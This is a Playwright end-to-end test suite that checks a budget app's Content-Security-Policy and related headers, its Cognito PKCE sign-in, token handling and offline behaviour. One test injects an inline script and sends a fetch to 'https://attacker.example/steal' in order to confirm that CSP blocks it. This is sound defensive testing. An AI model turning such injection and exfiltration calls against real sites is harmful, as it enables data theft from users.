/**
 * The built page runs under its Content-Security-Policy in headless Chromium, twice:
 *  - from the local server (`npm start`), with the headers it really sends;
 *  - as deployed: on a CloudFront origin with CloudFront's headers, the API on execute-api and the
 *    sign-in on a stand-in Hosted UI, all answered by Playwright routes (the API ones forwarded to the
 *    local server). Routes only see requests the CSP let through, so a blocked call fails the test.
 * Any `securitypolicyviolation` event or CSP / Permissions-Policy console message fails it too.
 */
import { expect } from 'chai';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { extname, join } from 'node:path';
import mime from 'mime';
import { chromium, type Browser, type BrowserContext, type Page, type Route } from 'playwright-core';
import { buildClient } from '../../client/build.mjs';
import { OAUTH_SCOPES } from '../../infra/auth.js';
import {
  awsConnectSources, contentSecurityPolicy, FRAME_OPTIONS, HSTS_MAX_AGE_SECONDS, PERMISSIONS_POLICY, REFERRER_POLICY, securityHeaders,
} from '../../infra/security-headers.js';
import { startLocalStack, type LocalStack } from '../../src/entrypoints/local/stack.js';
import { CHROMIUM, CHROMIUM_ARGS } from '../support/browser.js';


const pad = (n: number) => String(n).padStart(2, '0');
const now = new Date();
const today = `${now.getFullYear()}-${pad(now.getMonth() + 1)}-${pad(now.getDate())}`;

interface Violation { directive: string; blocked: string; sample: string }

/** Records CSP violation events (from an init script, which CSP does not govern) and CSP / Permissions-Policy console messages. */
async function watchPolicies(context: BrowserContext) {
  const violations: Violation[] = [];
  const consoleProblems: string[] = [];
  const pageErrors: string[] = [];
  await context.exposeBinding('__reportViolation', (_source, violation: Violation) => void violations.push(violation));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { __reportViolation(v: Violation): void }).__reportViolation({
        directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample,
      });
    });
  });
  const watch = (page: Page) => {
    page.on('console', (message) => {
      if (/content security policy|permissions[- ]policy/i.test(message.text())) consoleProblems.push(message.text());
    });
    page.on('pageerror', (error) => void pageErrors.push(error.message));
  };
  context.pages().forEach(watch);
  context.on('page', watch);
  return {
    /** Waits until an action the policy blocked has been reported (event and console), and forgets the reports. */
    async takeBlocked(consoleMessages: number): Promise<{ violations: Violation[]; console: string[] }> {
      await until(() => violations.length > 0 && consoleProblems.length >= consoleMessages);
      return { violations: violations.splice(0), console: consoleProblems.splice(0) };
    },
    /** Fails on anything recorded so far. */
    expectClean() {
      expect(violations, 'CSP violations').to.deep.equal([]);
      expect(consoleProblems, 'CSP / Permissions-Policy console messages').to.deep.equal([]);
      expect(pageErrors, 'uncaught errors in the page').to.deep.equal([]);
    },
  };
}

type PolicyWatcher = Awaited<ReturnType<typeof watchPolicies>>;

/** A script the page itself inserts must not run: proves the policy is enforced and the watcher hears it. */
async function expectInlineScriptBlocked(page: Page, watcher: PolicyWatcher) {
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return (window as unknown as { __inlineRan?: boolean }).__inlineRan ?? false;
  });
  expect(ran).to.equal(false);
  const blocked = await watcher.takeBlocked(1);
  expect(blocked.violations.map((v) => v.directive)).to.deep.equal(['script-src-elem']);
  expect(blocked.console).to.have.length(1);
  expect(blocked.console[0]).to.match(/^Executing inline script violates the following Content Security Policy directive/);
}

/** Violation reports reach the test asynchronously (through the exposed binding). */
async function until(condition: () => boolean, timeoutMs = 5_000) {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error('timed out waiting for the CSP violation reports');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

async function addExpense(page: Page, amount: string, description: string) {
  await page.fill('#add-date', today);
  await page.fill('#add-amount', amount);
  await page.selectOption('#add-category', 'Food');
  await page.fill('#add-description', description);
  await page.press('#add-amount', 'Enter');
  await page.locator('.expense-form .form-status.ok').waitFor();
  await page.locator('.expense-list > li', { hasText: description }).waitFor();
}

/**
 * Preact sizes the budget bar's fill through element.style (CSSOM), which style-src does not govern
 * (only style attributes in markup and <style> elements): waits until the fill is `ratio` of its track.
 */
async function waitForBudgetBarFill(page: Page, ratio: number) {
  await page.waitForFunction((expected) => {
    const bar = document.querySelector('.bar[data-scope="Monthly budget"]');
    const fill = bar?.querySelector('.bar-fill')?.getBoundingClientRect().width;
    const track = bar?.querySelector('.bar-track')?.getBoundingClientRect().width;
    return fill !== undefined && track ? Math.abs(fill / track - expected) < 0.01 : false;
  }, ratio);
}

describe('web client under its Content-Security-Policy (e2e)', function () {
  this.timeout(120_000);
  let temp: string;
  let clientDir: string;
  let stack: LocalStack;
  let browser: Browser;

  before(async function () {
    if (!existsSync(CHROMIUM)) {
      console.warn(`    (skipped: ${CHROMIUM} is not installed; run apt-get install -y chromium)`);
      this.skip();
    }
    temp = await mkdtemp(join(tmpdir(), 'budget-csp-'));
    clientDir = join(temp, 'client');
    await buildClient({ outDir: clientDir, minify: true, log: () => {} });
    stack = await startLocalStack({ port: 0, storage: 'memory', clientDir, log: () => {} });
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: CHROMIUM_ARGS });
  });

  after(async () => {
    await browser?.close();
    await stack?.close();
    if (temp) await rm(temp, { recursive: true, force: true });
  });

  describe('from the local server', () => {
    let context: BrowserContext;
    let page: Page;
    let watcher: PolicyWatcher;

    before(async () => {
      context = await browser.newContext({ locale: 'en-US', viewport: { width: 1280, height: 900 } });
      watcher = await watchPolicies(context);
      page = await context.newPage();
      page.setDefaultTimeout(15_000);
    });
    after(async () => context?.close());

    it('sends the CSP (connect-src self) and the other security headers with the document and every file', async () => {
      const expected = securityHeaders([]);
      expect(expected['content-security-policy']).to.contain("connect-src 'self';");
      const response = await page.goto(`${stack.url}/`);
      expect(response!.headers()).to.include(expected);
      for (const path of ['/config.json', '/no-such-file.txt']) {
        expect((await page.request.get(`${stack.url}${path}`)).headers(), path).to.include(expected);
      }
      await page.locator('#month-label').waitFor();
      watcher.expectClean();
    });

    it('enforces it: an injected inline script does not run', async () => {
      await expectInlineScriptBlocked(page, watcher);
    });

    it('adds an expense and lists it, and sizes the budget bar, without a violation', async () => {
      const budget = await page.request.put(`${stack.url}/api/budget`, { data: { currency: 'USD', monthlyLimit: 100, thresholds: [80, 100] } });
      expect(budget.status()).to.equal(200);
      await page.reload();
      await addExpense(page, '50', 'under the policy');
      await page.locator('[data-testid="total-spent"]', { hasText: '$50.00' }).waitFor();
      await waitForBudgetBarFill(page, 0.5);
      watcher.expectClean();
    });
  });

  describe('as deployed: CloudFront headers, API on execute-api, sign-in through the Hosted UI', () => {
    const REGION = 'eu-west-1';
    const SITE = 'https://d111111abcdef8.cloudfront.net';
    const API = `https://a1b2c3d4e5.execute-api.${REGION}.amazonaws.com`;
    const HOSTED_UI = `https://budget-alerts-test-123456789012.auth.${REGION}.amazoncognito.com`;
    const CLIENT_ID = 'testclientid0123456789';
    /** What CloudFront's response headers policy adds (test/infra/site.test.ts checks it uses these values). */
    const CLOUDFRONT_HEADERS = {
      'content-security-policy': contentSecurityPolicy(awsConnectSources(REGION)),
      'permissions-policy': PERMISSIONS_POLICY,
      'strict-transport-security': `max-age=${HSTS_MAX_AGE_SECONDS}; includeSubDomains`,
      'x-content-type-options': 'nosniff',
      'x-frame-options': FRAME_OPTIONS,
      'referrer-policy': REFERRER_POLICY,
    };
    const CORS = { 'access-control-allow-origin': SITE };

    let context: BrowserContext;
    let page: Page;
    let watcher: PolicyWatcher;
    const hostedUi = {
      signIns: 0,
      /** code -> the PKCE challenge it was issued for. */
      codes: new Map<string, string>(),
      accessToken: '',
      refreshToken: '',
      revocations: [] as Record<string, string>[],
      logouts: [] as string[],
    };
    const bearers: string[] = [];
    /** The user in every access token, as Cognito's `sub`. */
    const USER = 'user-7f3a';
    /** An access token shaped as Cognito's (a JWT; the stand-in authorizer only compares it). */
    const accessTokenNumber = (n: number) => `eyJhbGciOiJSUzI1NiJ9.${Buffer.from(JSON.stringify({ sub: USER, token_use: 'access', n })).toString('base64url')}.signature`;
    /** When down, every request to the site, the Hosted UI and the API fails as with no signal (the browser still says online). */
    let network: 'up' | 'down' = 'up';

    async function serveSite(route: Route) {
      if (network === 'down') return route.abort('internetdisconnected');
      const path = new URL(route.request().url()).pathname;
      if (path === '/config.json') {
        return route.fulfill({
          status: 200,
          headers: { ...CLOUDFRONT_HEADERS, 'content-type': 'application/json', 'cache-control': 'no-cache' },
          body: JSON.stringify({
            apiBaseUrl: `${API}/api`,
            auth: { region: REGION, userPoolId: `${REGION}_TestPool1`, clientId: CLIENT_ID, domain: HOSTED_UI, redirectUri: SITE, scopes: OAUTH_SCOPES },
          }),
        });
      }
      const file = path === '/' || extname(path) === '' ? '/index.html' : path;
      const body = await readFile(join(clientDir, file)).catch(() => null);
      if (!body) return route.fulfill({ status: 404, headers: CLOUDFRONT_HEADERS, body: 'Not found' });
      return route.fulfill({ status: 200, headers: { ...CLOUDFRONT_HEADERS, 'content-type': mime.getType(file)! }, body });
    }

    /** The Hosted UI with a signed-in session: /oauth2/authorize redirects straight back with a code. */
    async function serveHostedUi(route: Route) {
      if (network === 'down') return route.abort('internetdisconnected');
      const request = route.request();
      const url = new URL(request.url());
      if (url.pathname === '/oauth2/authorize') {
        const params = url.searchParams;
        expect(params.get('client_id')).to.equal(CLIENT_ID);
        expect(params.get('scope')!.split(' ')).to.include('budget-api/expenses');
        expect(params.get('code_challenge_method')).to.equal('S256');
        const code = `code-${++hostedUi.signIns}`;
        hostedUi.codes.set(code, params.get('code_challenge')!);
        const back = `${params.get('redirect_uri')}?code=${code}&state=${encodeURIComponent(params.get('state')!)}`;
        return route.fulfill({ status: 302, headers: { location: back } });
      }
      if (url.pathname === '/oauth2/token' && request.method() === 'POST') {
        expect(request.headers()['content-type']).to.equal('application/x-www-form-urlencoded');
        const form = Object.fromEntries(new URLSearchParams(request.postData() ?? ''));
        if (form.grant_type === 'authorization_code') {
          const challenge = createHash('sha256').update(form.code_verifier ?? '').digest('base64url');
          expect(hostedUi.codes.get(form.code!), 'PKCE verifier matches the challenge').to.equal(challenge);
          hostedUi.codes.delete(form.code!);
        }
        hostedUi.accessToken = accessTokenNumber(hostedUi.signIns);
        hostedUi.refreshToken = `refresh-${hostedUi.signIns}`;
        return route.fulfill({
          status: 200,
          headers: { ...CORS, 'content-type': 'application/json' },
          body: JSON.stringify({
            id_token: `id-${hostedUi.signIns}`, access_token: hostedUi.accessToken, refresh_token: hostedUi.refreshToken,
            expires_in: 3600, token_type: 'Bearer',
          }),
        });
      }
      if (url.pathname === '/oauth2/revoke' && request.method() === 'POST') {
        hostedUi.revocations.push(Object.fromEntries(new URLSearchParams(request.postData() ?? '')));
        return route.fulfill({ status: 200, headers: CORS, body: '' });
      }
      if (url.pathname === '/logout') {
        hostedUi.logouts.push(url.search);
        return route.fulfill({ status: 200, headers: { 'content-type': 'text/html' }, body: '<!doctype html><title>Signed out</title>' });
      }
      return route.fulfill({ status: 404, body: 'Not found' });
    }

    /** API Gateway's JWT authorizer, reduced to: only the current access token gets through (to the local server). */
    async function serveApi(route: Route) {
      if (network === 'down') return route.abort('internetdisconnected');
      const request = route.request();
      const authorization = request.headers().authorization ?? '';
      bearers.push(authorization);
      if (authorization !== `Bearer ${hostedUi.accessToken}`) {
        return route.fulfill({ status: 401, headers: { ...CORS, 'content-type': 'application/json' }, body: '{"message":"Unauthorized"}' });
      }
      const url = new URL(request.url());
      const response = await route.fetch({ url: `${stack.url}${url.pathname}${url.search}` });
      return route.fulfill({ response, headers: { ...response.headers(), ...CORS } });
    }

    before(async () => {
      context = await browser.newContext({ locale: 'en-US', viewport: { width: 1280, height: 900 } });
      watcher = await watchPolicies(context);
      await context.route(`${SITE}/**`, serveSite);
      await context.route(`${HOSTED_UI}/**`, serveHostedUi);
      await context.route(`${API}/**`, serveApi);
      page = await context.newPage();
      page.setDefaultTimeout(15_000);
    });
    after(async () => context?.close());

    it('signs in through the Hosted UI and serves the document with the CSP naming the API and Cognito', async () => {
      const documents: Record<string, string>[] = [];
      page.on('response', (response) => {
        if (response.request().isNavigationRequest() && response.url().startsWith(SITE)) documents.push(response.headers());
      });
      await page.goto(`${SITE}/`);
      await page.locator('#month-label').waitFor();
      expect(page.url()).to.equal(`${SITE}/#${today.slice(0, 7)}`);
      expect(hostedUi.signIns).to.equal(1);
      expect(documents).to.have.length(2); // before and after the Hosted UI
      for (const headers of documents) expect(headers).to.include(CLOUDFRONT_HEADERS);
      expect(CLOUDFRONT_HEADERS['content-security-policy']).to.contain(
        `connect-src 'self' https://*.execute-api.${REGION}.amazonaws.com https://*.auth.${REGION}.amazoncognito.com;`);
      watcher.expectClean();
    });

    it('sends the access token, never the ID token, as the API bearer', async () => {
      await page.locator('[data-testid="total-spent"]').waitFor();
      expect(bearers.length).to.be.greaterThan(0);
      expect(new Set(bearers)).to.deep.equal(new Set([`Bearer ${accessTokenNumber(1)}`]));
    });

    it('keeps no token in Web Storage: only the id of the device\'s last user, for an offline start', async () => {
      const stored = await page.evaluate(() => JSON.stringify({ session: { ...sessionStorage }, local: { ...localStorage } }));
      expect(stored).to.equal(JSON.stringify({ session: {}, local: { 'budget.lastUser': USER } }));
    });

    it('enforces it: an injected inline script does not run, a call to another origin is blocked', async () => {
      await expectInlineScriptBlocked(page, watcher);
      const reached = await page.evaluate(() => fetch('https://attacker.example/steal').then(() => true, () => false));
      expect(reached).to.equal(false);
      const blocked = await watcher.takeBlocked(2); // "Connecting to ... violates", "Fetch API cannot load ..."
      expect(blocked.violations.map((v) => [v.directive, v.blocked])).to.deep.equal([['connect-src', 'https://attacker.example/steal']]);
      expect(blocked.console.join('\n')).to.contain("Connecting to 'https://attacker.example/steal' violates");
    });

    it('adds an expense through the API and lists it, without a violation', async () => {
      await addExpense(page, '12.50', 'deployed policy');
      await page.locator('[data-testid="total-spent"]', { hasText: '$62.50' }).waitFor(); // with the local test's 50
      watcher.expectClean();
    });

    it('signs in again without a prompt after a reload, keeping the month in the URL', async () => {
      const month = `${now.getFullYear() - 1}-${pad(now.getMonth() + 1)}`;
      await page.evaluate((hash) => history.replaceState(null, '', hash), `#${month}`);
      await page.reload();
      await page.locator('#month-label').waitFor();
      expect(hostedUi.signIns).to.equal(2);
      expect(page.url()).to.equal(`${SITE}/#${month}`);
      await page.locator('[data-testid="total-spent"]', { hasText: '$0.00' }).waitFor();
      expect(bearers.at(-1)).to.equal(`Bearer ${accessTokenNumber(2)}`);
      watcher.expectClean();
    });

    it('reloaded with no signal, starts as the last user with their data; back online, signs in and sends what was added, once', async () => {
      await page.goto('about:blank');
      await page.goto(`${SITE}/#${today.slice(0, 7)}`);
      await page.locator('[data-testid="total-spent"]', { hasText: '$62.50' }).waitFor();
      await page.waitForFunction(() => navigator.serviceWorker.controller !== null, undefined, { timeout: 20_000 }).catch(async () => {
        await page.reload(); // the first load installs the worker; the next is served by it
        await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
      });
      // Let this load's own worker registration (a moment after load) finish before the signal goes.
      await page.waitForFunction(() => performance.getEntriesByType('resource').some((e) => e.name.includes('workbox-window')));
      await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
      await page.waitForTimeout(300);
      const signInsBefore = hostedUi.signIns;
      network = 'down';
      try {
        await page.reload();
        await page.locator('[data-testid="offline-notice"]').waitFor();
        await page.locator('[data-testid="total-spent"]', { hasText: '$62.50' }).waitFor();
        expect(hostedUi.signIns, 'no sign-in attempted offline').to.equal(signInsBefore);
        await addExpense(page, '7.25', 'added with no signal');
        await page.locator('#pending-heading', { hasText: 'Not sent yet (1)' }).waitFor();
        expect(page.url().startsWith(SITE), 'still on the page, not sent to a sign-in page that cannot load').to.equal(true);
      } finally {
        network = 'up';
      }
      // What the browser does when the signal is back: the page signs in (no prompt) and sends the queue.
      await page.evaluate(() => window.dispatchEvent(new Event('online')));
      await page.waitForURL(`${SITE}/**`);
      await page.locator('[data-testid="total-spent"]', { hasText: '$69.75' }).waitFor({ timeout: 20_000 });
      expect(hostedUi.signIns).to.equal(signInsBefore + 1);
      const listed = await (await page.request.get(`${stack.url}/api/expenses?month=${today.slice(0, 7)}`)).json();
      expect(listed.items.filter((e: { description?: string }) => e.description === 'added with no signal')).to.have.length(1);
      watcher.expectClean();
    });

    it('revokes the refresh token, then goes to the Hosted UI logout, on sign out', async () => {
      await page.click('button.sign-out');
      await page.waitForURL(`${HOSTED_UI}/logout?**`);
      expect(hostedUi.revocations).to.deep.equal([{ token: `refresh-${hostedUi.signIns}`, client_id: CLIENT_ID }]);
      expect(Object.fromEntries(new URLSearchParams(hostedUi.logouts[0]))).to.deep.equal({ client_id: CLIENT_ID, logout_uri: SITE });
      watcher.expectClean();
    });
  });
});
